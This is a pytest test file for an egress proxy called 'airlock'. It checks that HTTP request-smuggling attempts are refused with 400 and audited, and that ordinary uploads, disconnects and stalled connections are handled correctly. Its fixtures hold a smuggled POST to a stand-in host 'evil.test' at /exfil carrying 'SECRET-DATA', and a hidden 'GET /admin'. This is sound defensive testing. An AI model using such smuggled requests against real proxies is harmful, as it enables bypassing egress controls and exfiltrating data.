"""Plain forwarding and bodies a destination may leave unread: a body is never read there as a
request of its own, which airlock never judged (real clients on sockets, real origins)."""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time
from pathlib import Path

import pytest

from airlock.egress.audit_read import read_records
from tests.egress.origin import _Site, config, exchange, running

SMUGGLED = b"POST /exfil HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 11\r\n\r\nSECRET-DATA"
"""A request to a denied host, hidden in a body."""


def _requests(log: Path) -> list[dict[str, object]]:
    return [r for r in read_records(log) if r["type"] == "request"]


@pytest.mark.parametrize(
    ("method", "framing"),
    [
        pytest.param("GET", b"Content-Length: %d\r\n" % len(SMUGGLED), id="get_sized"),
        pytest.param("HEAD", b"Content-Length: %d\r\n" % len(SMUGGLED), id="head_sized"),
        pytest.param("GET", b"Transfer-Encoding: chunked\r\n", id="get_chunked"),
    ],
)
def test_a_get_or_head_with_a_body_is_refused_without_inspection(
    site: _Site, tmp_path: Path, method: str, framing: bytes
) -> None:
    """A GET or HEAD whose body hides a request to a denied host is answered 400 and
    recorded refused, as on an inspected host; nothing reaches the origin, which would read
    the body as a request of its own."""
    port = site.server_address[1]
    body = (
        SMUGGLED if b"Length" in framing else b"%x\r\n%s\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED)
    )
    cfg = config(tmp_path)
    with running(cfg) as (url, _):
        answer = exchange(
            url,
            b"%s http://127.0.0.1:%d/first HTTP/1.1\r\n%s\r\n%s"
            % (method.encode(), port, framing, body),
        )
    assert answer.startswith(b"HTTP/1.1 400 "), answer
    assert f"a body on a {method} request: refused".encode() in answer
    assert site.seen == []
    assert cfg.audit_log is not None
    [record] = _requests(cfg.audit_log)
    assert (record["host"], record["status"], record["decision"]) == ("127.0.0.1", 400, "deny")
    assert f"a body on a {method} request" in str(record["reason"])


class _Careless:
    """An origin that answers each request as soon as its head is read and never reads a body
    (as servers that ignore one on OPTIONS do), keeping the connection whatever the request
    asks: the heads each connection read, in order."""

    ANSWER = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(10)
        self.port: int = self.server.getsockname()[1]
        self.connections: list[list[bytes]] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self.server.accept()
                heads: list[bytes] = []
                self.connections.append(heads)
                with connection:
                    self._answer(connection, heads)

    def _answer(self, connection: socket.socket, heads: list[bytes]) -> None:
        data = b""
        with contextlib.suppress(OSError):
            while piece := connection.recv(65536):
                data += piece
                while b"\r\n\r\n" in data:
                    head, data = data.split(b"\r\n\r\n", 1)
                    heads.append(head)
                    connection.sendall(self.ANSWER)

    def __enter__(self) -> _Careless:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.close()
        self._thread.join(5)


def test_a_request_with_a_body_asks_the_origin_to_close_and_is_not_followed_on_its_connection(
    tmp_path: Path,
) -> None:
    """An OPTIONS with a body goes with ``Connection: close`` and its connection is closed
    after the answer: an origin that left the body unread never reads it, with the next
    request, as a request of its own; the next request goes on a new connection."""
    with _Careless() as careless, running(config(tmp_path)) as (url, _):
        host, port = url.removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=10) as sock:
            sock.sendall(
                b"OPTIONS http://127.0.0.1:%d/one HTTP/1.1\r\nContent-Length: 5\r\n\r\nhello"
                % careless.port
            )
            first = sock.recv(65536)
            sock.sendall(b"GET http://127.0.0.1:%d/two HTTP/1.1\r\n\r\n" % careless.port)
            second = sock.recv(65536)
    assert first == second == _Careless.ANSWER
    heads = careless.connections
    assert [len(read) for read in heads] == [1, 1], heads
    assert heads[0][0].startswith(b"OPTIONS /one ") and b"\r\nConnection: close" in heads[0][0]
    assert heads[1][0].startswith(b"GET /two ") and b"Connection" not in heads[1][0]


@pytest.mark.parametrize(
    ("method", "body"),
    [
        pytest.param("OPTIONS", SMUGGLED, id="options_hiding_a_post"),
        pytest.param("POST", SMUGGLED, id="post_hiding_a_post"),
        pytest.param("PUT", b"\r\nGET /admin\r\n", id="version_less_get_after_a_blank_line"),
        pytest.param("POST", SMUGGLED[:20], id="a_request_line_the_body_ends_in"),
    ],
)
def test_a_body_that_starts_as_a_request_is_refused_unsent(
    site: _Site, tmp_path: Path, method: str, body: bytes
) -> None:
    """A body sized by its length whose first line is a request line, which a server that
    ignores the length reads as the next request (as in a tunnel in the clear): refused
    400, recorded, and nothing of the request reaches the origin."""
    port = site.server_address[1]
    cfg = config(tmp_path)
    with running(cfg) as (url, _):
        answer = exchange(
            url,
            b"%s http://127.0.0.1:%d/echo HTTP/1.1\r\nContent-Length: %d\r\n\r\n%s"
            % (method.encode(), port, len(body), body),
        )
    assert answer.startswith(b"HTTP/1.1 400 "), answer
    assert b"a body that starts as a request does: refused" in answer
    assert site.seen == []
    assert cfg.audit_log is not None
    [record] = _requests(cfg.audit_log)
    assert (record["host"], record["status"], record["decision"]) == ("127.0.0.1", 400, "deny")


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b'{"method": "POST /x HTTP/1.1"}', id="json"),
        pytest.param(b"GET me a coffee\nPOST /x HTTP/1.1\n", id="text_first_line_no_request"),
        pytest.param(b"Post /x HTTP/1.1", id="not_a_method_in_upper_case"),
        pytest.param(b"z" * 70_000 + b" GET / HTTP/1.1", id="a_first_line_past_the_limit"),
        pytest.param(bytes(range(256)) * 1000, id="binary"),
    ],
)
@pytest.mark.parametrize("expect", [False, True], ids=["at_once", "after_100_continue"])
def test_an_ordinary_upload_passes_whole(
    site: _Site, tmp_path: Path, body: bytes, expect: bool
) -> None:
    """A body that does not start as a request does reaches the origin as sent, on a client
    connection kept for the next request; a client waiting for ``100 Continue`` gets it
    before its body is read."""
    port = site.server_address[1]
    head = b"POST http://127.0.0.1:%d/echo HTTP/1.1\r\nContent-Length: %d\r\n%s\r\n" % (
        port,
        len(body),
        b"Expect: 100-continue\r\n" if expect else b"",
    )
    with running(config(tmp_path)) as (url, _):
        host, proxy_port = url.removeprefix("http://").split(":")
        with socket.create_connection((host, int(proxy_port)), timeout=10) as sock:
            sock.sendall(head)
            if expect:
                assert sock.recv(65536) == b"HTTP/1.1 100 Continue\r\n\r\n"
            sock.sendall(body)
            answer = b""
            while not answer.endswith(body) and (piece := sock.recv(65536)):
                answer += piece
            sock.sendall(b"GET http://127.0.0.1:%d/next HTTP/1.1\r\n\r\n" % port)
            after = sock.recv(65536)
    assert answer.startswith(b"HTTP/1.1 200 ") and answer.endswith(body)
    assert after.startswith(b"HTTP/1.1 200 ") and b"path=/next" in after
    assert [path for path, _ in site.seen] == ["/echo", "/next"]


def test_a_client_gone_mid_response_has_what_it_got_counted(site: _Site, tmp_path: Path) -> None:
    """A client that reads part of a large answer and goes away: its record and the report
    count the bytes passed on before it went (they counted none)."""
    import socket

    port = site.server_address[1]
    cfg = config(tmp_path)
    with running(cfg) as (url, proxy):
        host, proxy_port = url.removeprefix("http://").split(":")
        with socket.create_connection((host, int(proxy_port)), timeout=10) as sock:
            sock.sendall(b"GET http://127.0.0.1:%d/size?n=50000000 HTTP/1.1\r\n\r\n" % port)
            got = 0
            while got < 1_000_000:
                got += len(sock.recv(65536))
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        report = proxy.close({})
    [record] = _requests(cfg.audit_log)
    assert record["error"] and "went away" in str(record["error"])
    assert int(record["bytes_in"]) >= 1_000_000
    [host] = [host for host in report.hosts if host.host == "127.0.0.1"]
    assert host.bytes_in >= 1_000_000


def test_an_errors_object_addresses_are_left_out_of_its_record(tmp_path: Path) -> None:
    """An error whose text names an object by its address (a transport's) reads the same
    each time: one reason in the report, not one a connection."""
    from airlock.egress.server import Proxy

    proxy = Proxy(config(tmp_path), None, "run", None)  # type: ignore[arg-type]
    for address in ("0x7f65a1b2c3d0", "0x7f65a1b2c4e8"):
        record = {
            "host": "example.com",
            "error": f"write failed: <TCPTransport closed=True {address}>",
        }
        proxy.record(record)
        assert record["error"] == "write failed: <TCPTransport closed=True>"
    assert list(proxy.hosts["example.com"].errors) == ["write failed: <TCPTransport closed=True>"]


def test_connections_still_dialling_when_the_run_ends_are_recorded(tmp_path: Path) -> None:
    """A destination that never completes a connection (its queue full): a tunnel and a
    request still dialling when the run ends each get a record saying so."""
    full = socket.socket()
    full.bind(("127.0.0.1", 0))
    full.listen(0)
    port = full.getsockname()[1]
    fillers = []
    for _ in range(3):  # the queue of a listener that never accepts, filled
        filler = socket.socket()
        filler.setblocking(False)
        with contextlib.suppress(OSError):
            filler.connect(("127.0.0.1", port))
        fillers.append(filler)
    cfg = config(tmp_path)
    with running(cfg) as (url, proxy):
        host, proxy_port = url.removeprefix("http://").split(":")
        clients = []
        for data in (
            b"CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: x\r\n\r\n" % port,
            b"GET http://127.0.0.1:%d/slow HTTP/1.1\r\n\r\n" % port,
        ):
            client = socket.create_connection((host, int(proxy_port)), timeout=10)
            client.sendall(data)
            clients.append(client)
        time.sleep(0.5)  # both are dialling now
        proxy.close({}, grace=0.2)
    for sock in [*clients, *fillers, full]:
        sock.close()
    records = [r for r in read_records(cfg.audit_log) if r["type"] in ("tunnel", "request")]  # type: ignore[arg-type]
    assert sorted(r["type"] for r in records) == ["request", "tunnel"], records
    assert all(r["error"] for r in records)
